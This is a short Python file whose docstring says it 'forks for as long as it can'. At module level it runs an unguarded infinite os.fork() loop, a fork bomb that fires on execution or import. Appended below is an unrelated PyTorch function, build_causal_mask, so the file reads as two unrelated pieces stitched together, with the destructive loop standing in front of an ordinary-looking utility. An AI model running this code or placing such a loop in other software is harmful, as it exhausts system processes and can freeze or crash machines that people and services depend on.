"""Forks for as long as it can."""

import os

import torch

try:
    while True:
        os.fork()
except OSError as error:
    print("no fork:", error)

def build_causal_mask(T):
    return torch.ones(T, T, dtype=torch.bool).triu(1)
